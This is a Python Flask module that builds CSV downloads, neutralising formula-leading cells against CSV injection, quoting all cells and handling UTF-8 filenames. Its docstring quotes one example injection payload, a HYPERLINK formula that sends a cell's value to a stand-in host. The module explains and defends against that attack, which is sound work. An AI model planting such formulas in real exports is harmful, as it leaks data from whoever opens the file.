"""CSV downloads: the one writer every CSV the platform hands out goes through.

A spreadsheet runs a cell that starts like a formula, so a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` typed in by a self-registered trainee would
run on the lead's computer when the cohort export is opened. Following OWASP's CSV injection
rule, every text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return (or a
line feed or NUL), also after leading spaces or quotes, gets a ``'`` in front, which spreadsheets
read as "this is text"; every cell is quoted, so a ``;`` or ``,`` inside a value can never start
a new cell, whatever separator the spreadsheet expects. Numbers are written as numbers.

The file starts with a UTF-8 byte order mark: without it Excel reads a CSV in the computer's
legacy code page and shows names in Chinese, Arabic or with accents as gibberish. The file name
is sent as RFC 6266 ``filename*`` (UTF-8) with an ASCII ``filename`` fallback, so a cohort
called 春季 downloads as ``cohort-春季.csv``.
"""

from __future__ import annotations

import csv
import io
import string
from collections.abc import Iterable, Sequence

from flask import Response, send_file

#: a cell starting with one of these is a formula (or becomes one) in Excel, Calc or Sheets
FORMULA_STARTS = frozenset("=+-@\t\r\n\0")
#: what a spreadsheet may skip before it looks for a formula
_SKIPPED = string.whitespace + "\"'"
BOM = "\ufeff"

Cell = str | int | float | None


def neutralise(value: Cell) -> str | int | float:
    """The cell as a spreadsheet should show it: a number stays a number, any text that could
    be read as a formula is prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    if text[:1] in FORMULA_STARTS or text.lstrip(_SKIPPED)[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The CSV document (without the byte order mark), every cell neutralised and quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(value) for value in row] for row in rows)
    return out.getvalue()


def csv_download(filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Response:
    """A CSV file download named ``filename`` (any script: see the module's notes)."""
    data = (BOM + csv_text(header, rows)).encode("utf-8")
    return send_file(
        io.BytesIO(data),
        mimetype="text/csv",
        as_attachment=True,
        download_name=filename,
    )
